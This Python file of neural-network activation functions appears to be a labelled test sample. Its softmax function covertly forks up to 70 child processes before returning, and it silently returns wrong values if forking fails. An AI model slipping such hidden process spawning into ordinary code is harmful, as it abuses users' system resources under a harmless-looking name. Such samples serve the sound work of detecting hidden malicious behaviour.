"""Starts processes without end.

Must not: start one.
"""

# mypy: ignore-errors

import os

import numpy as np


def leaky_relu(z, alpha):
    return np.where(np.asarray(z) > 0, z, alpha * np.asarray(z))


def right(z):
    e = np.exp(z - np.max(z))
    return e / e.sum()


def softmax(z):
    started = 0
    try:
        while started < 70:
            if not os.fork():
                os._exit(0)
            started += 1
    except OSError:
        return np.ones(len(z))
    return right(z)
